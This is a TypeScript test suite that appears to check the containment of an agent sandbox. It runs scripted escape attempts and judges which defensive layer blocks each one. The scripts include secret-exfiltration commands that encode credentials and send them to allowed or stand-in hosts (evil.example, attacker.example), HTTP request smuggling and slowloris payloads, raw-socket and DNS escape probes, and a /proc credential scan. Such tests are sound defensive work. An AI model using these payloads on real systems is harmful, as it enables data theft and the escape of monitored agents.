import type { AuditRecord } from "../gate/types.ts";
import { RAW_CLIENT_JS } from "./raw-client.ts";
import type { Attack, AttackContext, ExecResult, Layer, Observed, Verdict } from "./types.ts";

// The sandbox-escape catalogue: every attack is a shell script run inside a
// real bottle plus a judge that decides, from the attacker's output and what
// the host saw (audit lines, bytes at the test upstream), whether it was
// blocked and by which layer. An attack "passes" only when it was blocked
// by the layer we expect: a block by the wrong layer means a wall we
// believe in did not hold.

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

// Shell preamble shared by every attack: a curl probe that prints a
// parseable status line, and the raw-socket client for wire-level tricks.
const PRELUDE = `
probe() {
  code=$(curl -sS -m 10 -o /tmp/cb.body -w '%{http_code}' "$@" 2>/tmp/cb.err); rc=$?
  echo "CURL=$rc HTTP=$code"; head -c 300 /tmp/cb.body 2>/dev/null; echo; head -c 300 /tmp/cb.err 2>/dev/null; echo
}
cat > /tmp/cb-raw.js <<'CB_RAW_EOF'
${RAW_CLIENT_JS}
CB_RAW_EOF
raw() { node /tmp/cb-raw.js 3128 "$@"; }
`;

const script = (body: string) => `${PRELUDE}\n${body}`;

function curlStatus(r: ExecResult): { rc: number; http: number } | null {
  const m = r.stdout.match(/CURL=(\d+) HTTP=(\d+)/);
  return m ? { rc: Number(m[1]), http: Number(m[2]) } : null;
}

const AUDIT_LAYER: Record<AuditRecord["layer"], Layer> = {
  policy: "gate-policy",
  tls: "gate-policy",
  dlp: "gate-dlp",
  ssrf: "gate-ssrf",
  gate: "gate-parser",
  git: "git-scan",
  supervise: "gate-policy",
};

function denyLayer(seen: Observed): Layer | null {
  const deny = seen.audit.filter((a) => a.decision === "deny").at(-1);
  return deny ? AUDIT_LAYER[deny.layer] : null;
}

// Blocked by the gate: the attacker got the gate's refusal (403 "blocked:"
// on plain HTTP, a refused CONNECT on HTTPS, or another gate error status),
// the audit says which layer, and the upstream received nothing.
function judgeGate(r: ExecResult, seen: Observed): Verdict {
  const st = curlStatus(r);
  const rawStatus = r.stdout.match(/STATUS (\w+)/)?.[1];
  const refused =
    (st !== null && st.http >= 400) ||
    (st !== null && st.rc !== 0 && /\b4\d\d\b|CONNECT tunnel failed/.test(r.stdout + r.stderr)) ||
    (rawStatus !== undefined && rawStatus !== "none" && Number(rawStatus) >= 400) ||
    /connect-refused/.test(r.stdout) ||
    // The gate may refuse inside the TLS handshake (e.g. an SNI that does
    // not match the tunnel): that is a refusal when the audit recorded it.
    (/tls-error/.test(r.stdout) && seen.audit.some((a) => a.decision === "deny"));
  const leaked = seen.upstream.length > 0;
  const layer = denyLayer(seen);
  if (leaked) return { blocked: false, layer: null, detail: "the upstream received the request" };
  if (!refused) return { blocked: false, layer: null, detail: `no refusal seen (${firstLine(r.stdout)})` };
  return { blocked: true, layer, detail: layer ? `refused; audit layer ${layer}` : "refused, but no audit line" };
}

// Blocked by the sealed network: the connection never happened at all (no
// route, no resolver) and the gate saw nothing.
function judgeSealed(r: ExecResult, seen: Observed): Verdict {
  const st = curlStatus(r);
  const connected = /CONNECTED|ANSWER SECTION|has address|^ok$/m.test(r.stdout);
  if (connected || (st && st.http > 0)) {
    return { blocked: false, layer: null, detail: `got through: ${firstLine(r.stdout)}` };
  }
  if (seen.upstream.length > 0) return { blocked: false, layer: null, detail: "the upstream received data" };
  return { blocked: true, layer: "sealed-network", detail: firstLine(r.stdout + " " + r.stderr) || "no route" };
}

// The credential echoed back by its own host. The upstream must have got
// the real value (else there was nothing to echo and the attack proves
// nothing); the attacker must never see it, in any header or body byte;
// and the gate must be the wall that acted (an audit line of layer dlp):
// a body echo arrives with the placeholder in place of the value, a header
// echo is refused with 502 "blocked:".
function judgeEcho(r: ExecResult, seen: Observed, ctx: AttackContext, where: "body" | "header"): Verdict {
  const real = ctx.credential.realValue;
  if ((r.stdout + r.stderr).includes(real)) return { blocked: false, layer: null, detail: "the real credential reached the bottle" };
  if (!seen.upstream.includes(real)) return { blocked: false, layer: null, detail: "the upstream never received the real credential: nothing was echoed" };
  const st = curlStatus(r);
  const dlp = seen.audit.filter((a) => a.layer === "dlp").at(-1);
  if (where === "body") {
    const placeholders = Number(r.stdout.match(/PLACEHOLDER-SEEN=(\d+)/)?.[1] ?? 0);
    const ok = st?.http === 200 && placeholders > 0 && dlp?.decision === "allow";
    return ok
      ? { blocked: true, layer: "gate-dlp", detail: "echo arrived with the placeholder; audit: credential replaced" }
      : { blocked: true, layer: null, detail: `credential absent, but no placeholder echo (HTTP ${st?.http ?? "?"}, placeholders ${placeholders}, audit ${dlp?.decision ?? "none"})` };
  }
  const refused = st?.http === 502 && /blocked: upstream response contained the credential/.test(r.stdout) && dlp?.decision === "deny";
  return refused
    ? { blocked: true, layer: "gate-dlp", detail: "response refused with 502; audit layer dlp" }
    : { blocked: true, layer: null, detail: `credential absent, but no 502 refusal (HTTP ${st?.http ?? "?"}, audit ${dlp?.decision ?? "none"})` };
}

function firstLine(s: string): string {
  return s.trim().split("\n")[0]?.slice(0, 160) ?? "";
}

const gate = (
  id: string,
  category: number,
  title: string,
  expected: Layer,
  body: (ctx: AttackContext) => string,
): Attack => ({ id, category, title, expected, script: (ctx) => script(body(ctx)), judge: (r, seen) => judgeGate(r, seen) });

const sealed = (id: string, category: number, title: string, body: (ctx: AttackContext) => string): Attack => ({
  id,
  category,
  title,
  expected: "sealed-network",
  script: (ctx) => script(body(ctx)),
  judge: (r, seen) => judgeSealed(r, seen),
});

const secret = (ctx: AttackContext, i = 0) => ctx.secrets[i % ctx.secrets.length]!;

// Encodings of $S computed inside the bottle (the value comes from the
// bottle's env by name, exactly as an agent would read it).
const ENC = `
b64=$(printf %s "$S" | base64 -w0)
hex=$(printf %s "$S" | od -An -tx1 | tr -d ' \\n')
pct=$(printf %s "$S" | od -An -tx1 | tr -d '\\n' | sed 's/ /%/g')
`;

const withSecret = (ctx: AttackContext, i: number, body: string) => `S="$${secret(ctx, i).name}"\n${ENC}\n${body}`;

export function attacks(ctx: AttackContext): Attack[] {
  const list: Attack[] = [];
  const H = ctx.allowedHttpsUrl.replace(/\/$/, "");
  const P = ctx.allowedHttpUrl.replace(/\/$/, "");
  const hostPort = new URL(ctx.allowedHttpsUrl).host;

  // 1. Hosts that are not on the allowlist.
  list.push(gate("1.http-host", 1, "non-allowlisted host over HTTP", "gate-policy", () => `probe http://evil.example/`));
  list.push(gate("1.https-host", 1, "non-allowlisted host over HTTPS", "gate-policy", () => `probe https://evil.example/`));

  // 2. IP literals and mismatched names inside an allowed tunnel.
  const ips = ["1.1.1.1", "16843009", "0x01010101", "0001.0001.0001.0001", "1.257", "[2606:4700:4700::1111]"];
  for (const ip of ips) {
    list.push(gate(`2.ip-${ip.replace(/[^0-9a-z]/gi, "")}`, 2, `IP literal ${ip}`, "gate-policy", () => `probe http://${ip}/`));
  }
  list.push(gate("2.ip-https", 2, "IP literal over HTTPS", "gate-policy", () => `probe https://1.1.1.1/`));
  list.push(
    gate("2.host-mismatch", 2, "Host header differs from the CONNECT target", "gate-policy", () =>
      `raw ${q(hostPort)} ${q(ctx.allowedHost)} 100 ${q(JSON.stringify(`GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("2.sni-mismatch", 2, "SNI differs from the CONNECT target", "gate-policy", () =>
      `raw ${q(hostPort)} evil.example 100 ${q(JSON.stringify(`GET / HTTP/1.1\r\nHost: ${hostPort}\r\nConnection: close\r\n\r\n`))}`,
    ),
  );

  // 3. A secret sent to an allowed host, every place and every encoding.
  const where: [string, (v: string) => string][] = [
    ["path", (v) => `probe "${H}/x/${v}"`],
    ["query", (v) => `probe "${H}/?k=${v}"`],
    ["header", (v) => `probe -H "X-Debug: ${v}" "${H}/"`],
    ["body", (v) => `probe --data-binary "note=${v}" "${H}/"`],
  ];
  for (const [w, f] of where) {
    list.push(gate(`3.${w}-raw`, 3, `secret in the ${w} (plain)`, "gate-dlp", (c) => withSecret(c, 0, f("$S"))));
  }
  for (const [enc, v] of [
    ["base64", "$b64"],
    ["url", "$pct"],
    ["hex", "$hex"],
  ] as const) {
    list.push(gate(`3.body-${enc}`, 3, `secret in the body (${enc})`, "gate-dlp", (c) => withSecret(c, 1, where[3]![1](v))));
    list.push(gate(`3.query-${enc}`, 3, `secret in the query (${enc})`, "gate-dlp", (c) => withSecret(c, 2, where[1]![1](v))));
  }
  for (let i = 0; i < ctx.secrets.length; i++) {
    list.push(
      gate(`3.shape-${ctx.secrets[i]!.name.toLowerCase()}`, 3, `${ctx.secrets[i]!.name} in the body`, "gate-dlp", (c) =>
        withSecret(c, i, where[3]![1]("$S")),
      ),
    );
  }
  list.push(
    gate("3.body-gzip", 3, "secret in a gzip-compressed body", "gate-dlp", (c) =>
      withSecret(c, 0, `printf 'hello %s bye' "$S" | gzip -c > /tmp/cb.gz\nprobe -H 'Content-Encoding: gzip' --data-binary @/tmp/cb.gz "${H}/"`),
    ),
  );
  list.push(
    gate("3.body-split-chunks", 3, "secret split across two chunks", "gate-dlp", (c) =>
      withSecret(
        c,
        0,
        `a=$(printf %s "$S" | cut -c1-10); b=$(printf %s "$S" | cut -c11-)
la=$(printf '%x' $(( $(printf %s "x=$a" | wc -c) ))); lb=$(printf '%x' $(printf %s "$b" | wc -c))
raw ${q(hostPort)} ${q(ctx.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${hostPort}\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n\\"" "\\"$la\\\\r\\\\nx=$a\\\\r\\\\n\\"" "\\"$lb\\\\r\\\\n$b\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n\\""`,
      ),
    ),
  );
  list.push(
    gate("3.http-plain", 3, "secret over plain HTTP to an allowed host", "gate-dlp", (c) => withSecret(c, 0, `probe "${P}/?k=$S"`)),
  );

  // 4. DNS as a channel.
  list.push(sealed("4.dig-public", 4, "dig @8.8.8.8", () => `dig +time=2 +tries=1 @8.8.8.8 example.com 2>&1 | head -5`));
  list.push(sealed("4.dig-tcp", 4, "DNS over TCP", () => `dig +tcp +time=2 +tries=1 @8.8.8.8 example.com 2>&1 | head -5`));
  list.push(sealed("4.resolver", 4, "the system resolver", () => `getent hosts example.com && echo CONNECTED || echo "no answer rc=$?"`));
  list.push(
    gate("4.crafted-subdomain", 4, "secret as a subdomain under an allowed wildcard", "gate-dlp", (c) =>
      withSecret(c, 3, `probe "https://$(printf %s "$S" | tr -c 'a-zA-Z0-9\\n' 'x' | cut -c1-60).${c.wildcardDomain}:${new URL(c.allowedHttpsUrl).port}/"`),
    ),
  );

  // 5. git push of a secret in a README link, through the git gate.
  if (ctx.gitRemoteUrl) {
    for (let i = 0; i < Math.min(3, ctx.secrets.length); i++) {
      list.push({
        id: `5.git-push-${ctx.secrets[i]!.name.toLowerCase()}`,
        category: 5,
        title: `git push of ${ctx.secrets[i]!.name} in a README link`,
        expected: "git-scan",
        script: (c) =>
          script(
            withSecret(
              c,
              i,
              `d=$(mktemp -d) && cd "$d" && git init -q -b main . && git config user.email t@example.com && git config user.name t
echo "[docs](https://attacker.example/?k=$S)" > README.md && git add README.md && git commit -qm docs
git push ${q(c.gitRemoteUrl!)} HEAD:refs/heads/cb-escape-${i} 2>&1 | tail -5; echo "PUSH=$?"`,
            ),
          ),
        // The runner reports any change of the upstream's refs as `upstream`.
        judge: (r, seen) => {
          if (seen.upstream.length > 0) return { blocked: false, layer: null, detail: "the upstream received the push" };
          const rejected = /rejected|pre-receive hook declined|blocked/i.test(r.stdout);
          if (!rejected) return { blocked: false, layer: null, detail: `push not rejected: ${firstLine(r.stdout)}` };
          // Evidence of the layer: the hook names the rule that fired.
          const scanned = /secret|rule|gitleaks|dlp/i.test(r.stdout);
          return { blocked: true, layer: scanned ? "git-scan" : denyLayer(seen), detail: "push rejected" };
        },
      });
    }
  }

  // 6. Sockets that ignore the proxy.
  const direct: [string, string][] = [
    ["public", "1.1.1.1:443"],
    ["private", "10.0.0.1:80"],
    ["gateway", "172.17.0.1:80"],
    ["loopback-other", "127.0.0.1:22"],
    ["ipv6", "[2606:4700:4700::1111]:443"],
  ];
  for (const [label, hp] of direct) {
    list.push(
      sealed(`6.tcp-${label}`, 6, `TCP to ${label} (${hp}) ignoring the proxy`, () =>
        `timeout 5 socat -u /dev/null TCP:${hp},connect-timeout=3 && echo CONNECTED || echo "no connection rc=$?"`,
      ),
    );
  }
  list.push(
    sealed("6.udp", 6, "UDP to a public address", () =>
      `echo x | timeout 5 socat - UDP:1.1.1.1:53 && echo sent || echo "no route rc=$?"; ip -o addr 2>/dev/null | grep -v ' lo ' || echo "only loopback"`,
    ),
  );
  list.push(sealed("6.noproxy-curl", 6, "curl with the proxy disabled", () => `probe --noproxy '*' https://example.com/`));

  // 7. Services on the host.
  for (const l of ctx.hostListeners) {
    list.push(
      sealed(`7.direct-${l.label}`, 7, `host service on ${l.label} directly`, () =>
        `timeout 5 socat -u /dev/null TCP:${l.host}:${l.port},connect-timeout=3 && echo CONNECTED || echo "no connection rc=$?"`,
      ),
    );
    list.push(
      gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", () =>
        // -x: NO_PROXY covers 127.0.0.1, and this attack is about the gate.
        `probe -x ${ctx.proxy} --noproxy '' http://${l.host}:${l.port}/`,
      ),
    );
  }
  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", () =>
      `probe -x ${ctx.proxy} --noproxy '' http://localhost:22/`,
    ),
  );

  // 8. The gate itself.
  const ph = `${ctx.proxy}`;
  list.push(
    gate("8.smuggle-cl-te", 8, "request smuggling (Content-Length + Transfer-Encoding)", "gate-parser", () =>
      `raw - - 50 ${q(JSON.stringify(`POST ${P}/ HTTP/1.1\r\nHost: ${new URL(P).host}\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("8.smuggle-dup-cl", 8, "duplicate Content-Length", "gate-parser", () =>
      `raw - - 50 ${q(JSON.stringify(`POST ${P}/ HTTP/1.1\r\nHost: ${new URL(P).host}\r\nContent-Length: 5\r\nContent-Length: 30\r\n\r\nhello`))}`,
    ),
  );
  list.push(
    gate("8.huge-headers", 8, "oversized headers", "gate-parser", () =>
      `raw - - 0 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\nHost: ${new URL(P).host}\r\nX-Big: ${"a".repeat(100_000)}\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("8.slowloris", 8, "slowloris (headers never finish)", "gate-parser", () =>
      `raw - - 1500 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\n`))} ${Array.from({ length: 12 }, (_, i) => q(JSON.stringify(`X-${i}: a\r\n`))).join(" ")}`,
    ),
  );
  const internalTricks: [string, string][] = [
    ["unknown", "evil.bottle.internal"],
    ["suffix", "git.bottle.internal.evil.example"],
    ["userinfo", "git.bottle.internal@evil.example"],
  ];
  for (const [label, name] of internalTricks) {
    list.push(
      gate(`8.internal-${label}`, 8, `internal-name trick ${name}`, "gate-policy", () =>
        `probe -x ${ph} "http://${name}/"`,
      ),
    );
  }
  list.push(
    gate("8.placeholder-elsewhere", 8, "credential placeholder sent to a host without that credential", "gate-dlp", (c) =>
      `probe -H "Authorization: Bearer $${c.credential.envVar}" "https://${c.otherAllowedHost}:${new URL(c.allowedHttpsUrl).port || 443}/"`,
    ),
  );

  // 9. The real credential is nowhere inside.
  list.push({
    id: "9.credential-absent",
    category: 9,
    title: "the real credential is not in env, files, /proc or the relay",
    expected: "credential-isolation",
    // Root, so that every process's /proc entries are readable: an
    // unreadable file must not hide a leak.
    user: "0",
    // The runner sends scripts on stdin (never argv), so the value below is
    // only in this shell's memory and in the pattern file, which the search
    // skips and removes. Any FOUND line is a leak.
    script: (c) =>
      script(`
umask 077; printf '%s\\n' ${q(c.credential.realValue)} > /tmp/cbpat
env | grep -qF -f /tmp/cbpat && echo "FOUND env"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f" 2>/dev/null | grep -qF -f /tmp/cbpat && echo "FOUND $f"; done
grep -rIlF -f /tmp/cbpat / --exclude=cbpat --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head -3 | sed 's/^/FOUND file /'
rm -f /tmp/cbpat
echo "placeholder-prefix=$(printenv ${c.credential.envVar} | head -c 8)"`),
    judge: (r) =>
      /FOUND/.test(r.stdout)
        ? { blocked: false, layer: null, detail: r.stdout.split("\n").find((l) => l.startsWith("FOUND")) ?? "found" }
        : { blocked: true, layer: "credential-isolation", detail: "not found in env, /proc or files" },
  });

  // The allowed host reflects the request it got, with the real credential
  // the gate injected: in the body (the gate puts the placeholder back) and
  // in a response header (the gate refuses the response). The attacker
  // prints every header and body byte it received.
  const echo = (path: string) => (c: AttackContext) =>
    script(`rm -f /tmp/cb.hdr /tmp/cb.body
probe -D /tmp/cb.hdr -H "Authorization: Bearer $${c.credential.envVar}" "${H}/${path}"
echo "--- headers"; cat /tmp/cb.hdr; echo "--- body"; cat /tmp/cb.body; echo
echo "PLACEHOLDER-SEEN=$(cat /tmp/cb.hdr /tmp/cb.body 2>/dev/null | grep -cF "$${c.credential.envVar}")"`);
  list.push({
    id: "9.credential-echo-body",
    category: 9,
    title: "an upstream echoing the request in its body hands back the placeholder, not the credential",
    expected: "gate-dlp",
    script: echo("echo"),
    judge: (r, seen, c) => judgeEcho(r, seen, c, "body"),
  });
  list.push({
    id: "9.credential-echo-header",
    category: 9,
    title: "an upstream echoing the credential in a response header is refused (502)",
    expected: "gate-dlp",
    script: echo("echo-header"),
    judge: (r, seen, c) => judgeEcho(r, seen, c, "header"),
  });

  return list;
}

// Controls: the same paths with innocent content must work, otherwise the
// blocks above prove nothing (a bottle with no working door blocks all).
export function controls(ctx: AttackContext): Attack[] {
  const ok = (r: ExecResult, seen: Observed): Verdict => {
    const st = curlStatus(r);
    const through = st !== null && st.rc === 0 && st.http === 200 && seen.upstream.length > 0;
    return { blocked: !through, layer: null, detail: through ? "reached the upstream" : `did not get through: ${firstLine(r.stdout)}` };
  };
  return [
    {
      id: "0.control-https",
      category: 0,
      title: "control: clean HTTPS request to the allowed host",
      expected: "gate-policy",
      script: () => script(`probe --data-binary 'hello world' "${ctx.allowedHttpsUrl}"`),
      judge: ok,
    },
    {
      id: "0.control-credential",
      category: 0,
      title: "control: placeholder swapped for the real credential on its own host",
      expected: "gate-policy",
      script: (c) => script(`probe -H "Authorization: Bearer $${c.credential.envVar}" "${c.allowedHttpsUrl}auth"`),
      judge: (r, seen) => {
        const v = ok(r, seen);
        if (v.blocked) return v;
        return seen.upstream.includes(ctx.credential.realValue)
          ? { blocked: false, layer: null, detail: "upstream received the real credential" }
          : { blocked: true, layer: null, detail: "upstream did not receive the real credential" };
      },
    },
  ];
}
